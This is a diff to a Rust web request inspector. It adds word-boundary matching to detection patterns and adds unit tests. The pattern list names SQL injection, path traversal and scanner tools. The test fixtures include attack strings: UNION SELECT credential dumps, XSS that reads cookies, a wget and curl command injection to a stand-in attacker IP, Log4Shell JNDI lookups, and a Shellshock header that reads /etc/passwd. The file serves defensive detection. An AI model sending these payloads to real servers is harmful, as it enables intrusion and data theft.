@@ -155,16 +155,19 @@ impl PayloadHits {
 const IN_URL: u8 = 1;
 const IN_UA: u8 = 2;
 const ANYWHERE: u8 = IN_URL | IN_UA;
+/// The match must start a word: the byte before it is not a letter
+/// (`reunion selection` is not `union select`).
+const WORD: u8 = 4;
 
 /// (pattern, rule, where). Patterns are lower case and see decoded, whitespace-
 /// normalised text. They are chosen to need attack syntax around a keyword, so that
 /// `/select-your-plan` or `?q=union+station` stay clean.
 const PATTERNS: &[(&str, u8, u8)] = &[
     // SQL injection: set operators, tautologies, time/error-based probes, catalogs.
-    ("union select", idx::SQLI, IN_URL),
-    ("union all select", idx::SQLI, IN_URL),
-    ("union distinct select", idx::SQLI, IN_URL),
-    ("union(select", idx::SQLI, IN_URL),
+    ("union select", idx::SQLI, IN_URL | WORD),
+    ("union all select", idx::SQLI, IN_URL | WORD),
+    ("union distinct select", idx::SQLI, IN_URL | WORD),
+    ("union(select", idx::SQLI, IN_URL | WORD),
     ("' or '1'='1", idx::SQLI, IN_URL),
     ("' or 1=1", idx::SQLI, IN_URL),
     ("\" or 1=1", idx::SQLI, IN_URL),
@@ -176,18 +179,18 @@ const PATTERNS: &[(&str, u8, u8)] = &[
     ("' and '1'='1", idx::SQLI, IN_URL),
     ("'--", idx::SQLI, IN_URL),
     ("' --", idx::SQLI, IN_URL),
-    ("sleep(", idx::SQLI, IN_URL),
-    ("benchmark(", idx::SQLI, IN_URL),
-    ("waitfor delay", idx::SQLI, IN_URL),
+    ("sleep(", idx::SQLI, IN_URL | WORD),
+    ("benchmark(", idx::SQLI, IN_URL | WORD),
+    ("waitfor delay", idx::SQLI, IN_URL | WORD),
     ("information_schema", idx::SQLI, IN_URL),
     ("@@version", idx::SQLI, IN_URL),
-    ("extractvalue(", idx::SQLI, IN_URL),
-    ("updatexml(", idx::SQLI, IN_URL),
-    ("load_file(", idx::SQLI, IN_URL),
-    ("into outfile", idx::SQLI, IN_URL),
-    ("into dumpfile", idx::SQLI, IN_URL),
+    ("extractvalue(", idx::SQLI, IN_URL | WORD),
+    ("updatexml(", idx::SQLI, IN_URL | WORD),
+    ("load_file(", idx::SQLI, IN_URL | WORD),
+    ("into outfile", idx::SQLI, IN_URL | WORD),
+    ("into dumpfile", idx::SQLI, IN_URL | WORD),
     ("xp_cmdshell", idx::SQLI, IN_URL),
-    ("concat(0x", idx::SQLI, IN_URL),
+    ("concat(0x", idx::SQLI, IN_URL | WORD),
     ("order by 1--", idx::SQLI, IN_URL),
     ("; drop table", idx::SQLI, IN_URL),
     ("';drop table", idx::SQLI, IN_URL),
@@ -282,28 +285,28 @@ const PATTERNS: &[(&str, u8, u8)] = &[
     ("(){ :", idx::SHELLSHOCK, ANYWHERE),
     // Scanning tools, by user agent only.
     ("sqlmap", idx::SCANNER_UA, IN_UA),
-    ("nikto", idx::SCANNER_UA, IN_UA),
-    ("nmap", idx::SCANNER_UA, IN_UA),
+    ("nikto", idx::SCANNER_UA, IN_UA | WORD),
+    ("nmap", idx::SCANNER_UA, IN_UA | WORD),
     ("masscan", idx::SCANNER_UA, IN_UA),
     ("zgrab", idx::SCANNER_UA, IN_UA),
     ("gobuster", idx::SCANNER_UA, IN_UA),
     ("dirbuster", idx::SCANNER_UA, IN_UA),
     ("feroxbuster", idx::SCANNER_UA, IN_UA),
     ("wpscan", idx::SCANNER_UA, IN_UA),
-    ("nuclei", idx::SCANNER_UA, IN_UA),
+    ("nuclei", idx::SCANNER_UA, IN_UA | WORD),
     ("acunetix", idx::SCANNER_UA, IN_UA),
     ("netsparker", idx::SCANNER_UA, IN_UA),
     ("openvas", idx::SCANNER_UA, IN_UA),
-    ("w3af", idx::SCANNER_UA, IN_UA),
-    ("havij", idx::SCANNER_UA, IN_UA),
-    ("commix", idx::SCANNER_UA, IN_UA),
+    ("w3af", idx::SCANNER_UA, IN_UA | WORD),
+    ("havij", idx::SCANNER_UA, IN_UA | WORD),
+    ("commix", idx::SCANNER_UA, IN_UA | WORD),
     ("arachni", idx::SCANNER_UA, IN_UA),
     ("skipfish", idx::SCANNER_UA, IN_UA),
-    ("wfuzz", idx::SCANNER_UA, IN_UA),
+    ("wfuzz", idx::SCANNER_UA, IN_UA | WORD),
     ("fuzz faster u fool", idx::SCANNER_UA, IN_UA),
     ("jaeles", idx::SCANNER_UA, IN_UA),
-    ("zmeu", idx::SCANNER_UA, IN_UA),
-    ("hydra", idx::SCANNER_UA, IN_UA),
+    ("zmeu", idx::SCANNER_UA, IN_UA | WORD),
+    ("hydra", idx::SCANNER_UA, IN_UA | WORD),
     ("morfeus", idx::SCANNER_UA, IN_UA),
 ];
 
@@ -336,7 +339,11 @@ pub fn inspect(path: &str, query: Option<&str>, user_agent: &str) -> PayloadHits
 fn scan(ac: &AhoCorasick, text: &[u8], scope: u8, hits: &mut PayloadHits) {
     for m in ac.find_overlapping_iter(text) {
         let (_, rule, at) = PATTERNS[m.pattern().as_usize()];
-        if at & scope != 0 {
+        if at & scope == 0 {
+            continue;
+        }
+        let starts_word = m.start() == 0 || !text[m.start() - 1].is_ascii_alphabetic();
+        if at & WORD == 0 || starts_word {
             hits.insert(rule);
         }
     }
@@ -422,4 +429,272 @@ fn normalise(raw: &[u8], plus_is_space: bool, out: &mut [u8]) -> usize {
         n += 1;
     }
     n
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36";
+
+    fn ids(h: PayloadHits) -> Vec<&'static str> {
+        h.iter().map(|r| r.id).collect()
+    }
+
+    fn split(target: &str) -> (&str, Option<&str>) {
+        match target.split_once('?') {
+            Some((p, q)) => (p, Some(q)),
+            None => (target, None),
+        }
+    }
+
+    #[test]
+    fn finds_real_attack_strings() {
+        let cases: &[(&str, &str, &[&str])] = &[
+            (
+                "/index.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20",
+                BROWSER,
+                &["web.sqli"],
+            ),
+            (
+                "/item?id=1+UNION+ALL+SELECT+NULL,NULL,NULL--",
+                BROWSER,
+                &["web.sqli"],
+            ),
+            (
+                "/item?id=1/**/UnIoN/**/SeLeCt/**/1,2",
+                BROWSER,
+                &["web.sqli"],
+            ),
+            ("/item?id=-1union%0aselect%0a1,2", BROWSER, &["web.sqli"]),
+            (
+                "/login?user=admin%27%20OR%20%271%27%3D%271&pw=x",
+                BROWSER,
+                &["web.sqli"],
+            ),
+            ("/p?id=1%27%20AND%20SLEEP(5)--%20-", BROWSER, &["web.sqli"]),
+            (
+                "/p?id=(SELECT%20table_name%20FROM%20information_schema.tables)",
+                BROWSER,
+                &["web.sqli"],
+            ),
+            (
+                "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+                BROWSER,
+                &["web.xss"],
+            ),
+            (
+                "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
+                BROWSER,
+                &["web.xss"],
+            ),
+            ("/r?next=javascript:alert(1)", BROWSER, &["web.xss"]),
+            ("/q?x=%253Cscript%253E", BROWSER, &["web.xss"]),
+            (
+                "/static/../../../../etc/passwd",
+                BROWSER,
+                &["web.path_traversal", "web.sensitive_file"],
+            ),
+            (
+                "/download?file=..%2F..%2F..%2Fetc%2Fshadow",
+                BROWSER,
+                &["web.path_traversal", "web.sensitive_file"],
+            ),
+            (
+                "/files/..%252f..%252fwin.ini",
+                BROWSER,
+                &["web.path_traversal", "web.sensitive_file"],
+            ),
+            (
+                "/%2e%2e/%2e%2e/boot.ini",
+                BROWSER,
+                &["web.path_traversal", "web.sensitive_file"],
+            ),
+            ("/blog/2024/../", BROWSER, &["web.path_traversal"]),
+            ("/blog/2024/..", BROWSER, &["web.path_traversal"]),
+            ("/.env", BROWSER, &["web.sensitive_file"]),
+            ("/.git/config", BROWSER, &["web.sensitive_file"]),
+            ("/wp-config.php.bak", BROWSER, &["web.sensitive_file"]),
+            (
+                "/index.php?page=php://filter/convert.base64-encode/resource=index",
+                BROWSER,
+                &["web.php_wrapper"],
+            ),
+            (
+                "/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8%2B",
+                BROWSER,
+                &["web.php_wrapper"],
+            ),
+            (
+                "/ping?host=127.0.0.1%3Bwget%20http://203.0.113.66/x.sh",
+                BROWSER,
+                &["web.cmd_injection"],
+            ),
+            (
+                "/ping?host=127.0.0.1|whoami",
+                BROWSER,
+                &["web.cmd_injection"],
+            ),
+            (
+                "/cgi?x=$(curl%20203.0.113.66)",
+                BROWSER,
+                &["web.cmd_injection"],
+            ),
+            (
+                "/",
+                "${jndi:ldap://203.0.113.66:1389/Exploit}",
+                &["web.log4shell"],
+            ),
+            (
+                "/?x=%24%7Bjndi%3Armi%3A%2F%2F203.0.113.66%2Fa%7D",
+                BROWSER,
+                &["web.log4shell"],
+            ),
+            (
+                "/",
+                "${${lower:j}${lower:n}di:ldap://x/a}",
+                &["web.log4shell"],
+            ),
+            (
+                "/cgi-bin/status",
+                "() { :; }; /bin/bash -c 'cat /etc/passwd'",
+                &["web.cmd_injection", "web.shellshock"],
+            ),
+            (
+                "/",
+                "sqlmap/1.8.2#stable (https://sqlmap.org)",
+                &["web.scanner_ua"],
+            ),
+            (
+                "/",
+                "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
+                &["web.scanner_ua"],
+            ),
+            (
+                "/",
+                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+                &["web.scanner_ua"],
+            ),
+            (
+                "/",
+                "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+                &["web.scanner_ua"],
+            ),
+            ("/", "Mozilla/5.0 zgrab/0.x", &["web.scanner_ua"]),
+            ("/admin", "gobuster/3.6", &["web.scanner_ua"]),
+            (
+                "/admin",
+                "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
+                &["web.scanner_ua"],
+            ),
+            (
+                "/wp-login.php",
+                "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
+                &["web.scanner_ua"],
+            ),
+            (
+                "/",
+                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 Nuclei",
+                &["web.scanner_ua"],
+            ),
+        ];
+        for (target, ua, want) in cases {
+            let (path, query) = split(target);
+            let got = ids(inspect(path, query, ua));
+            assert_eq!(got, *want, "{target} / {ua}");
+        }
+    }
+
+    #[test]
+    fn leaves_look_alikes_alone() {
+        let cases: &[(&str, &str)] = &[
+            ("/select-your-plan", BROWSER),
+            ("/search?q=union+station", BROWSER),
+            ("/search?q=reunion+selection&sort=asc", BROWSER),
+            ("/docs/..md", BROWSER),
+            ("/docs/v1..v2/compare", BROWSER),
+            ("/environment/settings", BROWSER),
+            ("/blog/how-to-sleep-better", BROWSER),
+            ("/articles?tag=javascript&tag=scripting", BROWSER),
+            ("/api/orders?filter=status%3Dopen%26limit%3D50", BROWSER),
+            ("/static/app.min.js", BROWSER),
+            ("/images/*/thumb.png", BROWSER),
+            (
+                "/sitemap.xml",
+                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+            ),
+            ("/healthz", "ELB-HealthChecker/2.0"),
+            (
+                "/",
+                "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+            ),
+            ("/nikto-report", BROWSER),
+            (
+                "/api/v1/users/42?fields=id,name,email",
+                "python-requests/2.31.0",
+            ),
+            ("/", "curl/8.5.0"),
+            ("/checkout", "Amazon CloudFront"),
+        ];
+        for (target, ua) in cases {
+            let (path, query) = split(target);
+            let got = inspect(path, query, ua);
+            assert!(got.is_empty(), "{target} / {ua}: {:?}", ids(got));
+        }
+    }
+
+    #[test]
+    fn rules_are_well_formed() {
+        assert!(RULES.len() <= 16);
+        for (i, r) in RULES.iter().enumerate() {
+            assert!(r.id.starts_with("web."), "{}", r.id);
+            assert!(r.technique.starts_with('T'), "{}", r.id);
+            assert!((1.0..=10.0).contains(&r.severity), "{}", r.id);
+            assert!(
+                RULES[..i].iter().all(|o| o.id != r.id),
+                "duplicate {}",
+                r.id
+            );
+        }
+        for (p, rule, _) in PATTERNS {
+            assert_eq!(p.to_ascii_lowercase(), *p, "patterns are lower case");
+            assert!((*rule as usize) < RULES.len());
+        }
+        assert!(AUTOMATON.is_some());
+    }
+
+    #[test]
+    fn hits_report_the_strongest_rule() {
+        let h = inspect("/x", Some("a=${jndi:ldap://x}%3Cscript%3E"), BROWSER);
+        assert_eq!(h.len(), 2);
+        assert_eq!(h.strongest().map(|r| r.id), Some("web.log4shell"));
+        assert!(h.contains_id("web.xss"));
+        assert_eq!(PayloadHits::default().strongest(), None);
+    }
+
+    #[test]
+    fn normalises_encodings_whitespace_and_comments() {
+        let cases: &[(&str, bool, &str)] = &[
+            ("a%20b", false, "a b"),
+            ("a+b", true, "a b"),
+            ("a+b", false, "a+b"),
+            ("%41%4a%zz%", false, "AJ%zz%"),
+            ("x%0a%09%20y", false, "x y"),
+            ("union/**/select", false, "union select"),
+            ("union/*!50000*/select", false, "union select"),
+            ("/images/*/thumb", false, "/images/*/thumb"),
+            ("%253C", false, "%3C"),
+        ];
+        for (raw, plus, want) in cases {
+            let mut out = vec![0u8; raw.len()];
+            let n = normalise(raw.as_bytes(), *plus, &mut out);
+            assert_eq!(std::str::from_utf8(&out[..n]).unwrap(), *want, "{raw}");
+        }
+    }
+
+    #[test]
+    fn inspects_long_encoded_queries() {
+        let q = format!("{}%27%20UNION%20SELECT%201", "a%20".repeat(2000));
+        assert!(inspect("/", Some(&q), BROWSER).contains_id("web.sqli"));
+    }
 }
